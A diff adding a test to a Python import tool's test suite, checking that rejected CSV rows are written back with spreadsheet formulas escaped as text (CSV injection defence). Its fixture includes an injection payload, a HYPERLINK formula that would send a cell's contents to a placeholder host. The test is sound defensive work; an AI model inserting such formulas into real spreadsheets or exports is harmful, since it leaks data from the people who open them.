@@ -57,6 +57,16 @@ def test_import_success_exit_0_with_summary(world, tmp_path):
     assert rows[0] == ["row", "column", "value", "message"] and rows[1][:3] == ["3", "网格编码", "NOPE"]
 
 
+def test_rejected_rows_csv_carries_no_formula(world, tmp_path):
+    """A rejected value typed as a formula comes back in --errors as text (OWASP CSV injection)."""
+    f = write_csv(tmp_path / "hh.csv", ["户编号", "户主", "网格编码"],
+                  [["N1", "甲", '=HYPERLINK("http://x?"&A1,"点此")'], ["N2", "乙", "@SUM(1+1)"]])
+    p = run("import", "households", str(f), "--errors", str(tmp_path / "err.csv"), db=world)
+    assert p.returncode == 1, p.stderr
+    rows = list(csv.reader(io.StringIO((tmp_path / "err.csv").read_bytes().decode("utf-8-sig"))))
+    assert [r[2] for r in rows[1:]] == ["'=HYPERLINK(\"http://x?\"&A1,\"点此\")", "'@SUM(1+1)"]
+
+
 def test_missing_file_is_one_line_exit_1(world, tmp_path):
     p = run("import", "households", str(tmp_path / "nope.csv"), db=world)
     assert p.returncode == 1
